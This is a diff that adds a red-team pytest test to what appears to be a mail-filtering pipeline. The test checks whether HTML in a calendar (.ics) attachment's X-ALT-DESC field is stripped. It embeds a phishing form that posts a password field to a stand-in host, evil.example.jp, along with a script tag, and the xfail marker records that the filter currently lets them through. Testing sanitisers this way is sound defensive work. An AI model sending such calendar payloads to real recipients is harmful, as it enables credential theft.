@@ -270,3 +270,24 @@ def test_binhex_encoder_round_trips_through_an_independent_decoder(tmp_path: Pat
     )
     assert result.stdout == data
     assert result.stderr.endswith(b"invoice.exe")
+
+
+@pytest.mark.xfail(strict=True, reason="redteam: RT-19 X-ALT-DESC HTML kept in .ics")
+def test_calendar_html_description_carries_no_markup(chain: RedTeamChain):
+    """RT-19. The URLs inside are defanged, but the HTML description of an event keeps its
+    ``<form>``, password field and ``<script>``; Outlook renders X-ALT-DESC when the .ics is
+    opened."""
+    calendar = (
+        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:PUBLISH\r\nBEGIN:VEVENT\r\nUID:rt19\r\n"
+        "DTSTART:20261210T010000Z\r\nSUMMARY:説明会\r\n"
+        "X-ALT-DESC;FMTTYPE=text/html:<html><body><form action='https://evil.example.jp/x'>"
+        "<input type=password name=p></form><script>alert(1)</script></body></html>\r\n"
+        "END:VEVENT\r\nEND:VCALENDAR\r\n"
+    ).encode()
+    outcome = chain.send(with_attachment("説明会.ics", calendar, content_type="text/calendar"))
+    [copy] = outcome.delivered
+    for _, payload in leaves(copy):
+        if b"BEGIN:VCALENDAR" in payload:
+            lowered = payload.lower()
+            for tag in (b"<script", b"<form", b"<input"):
+                assert tag not in lowered, tag
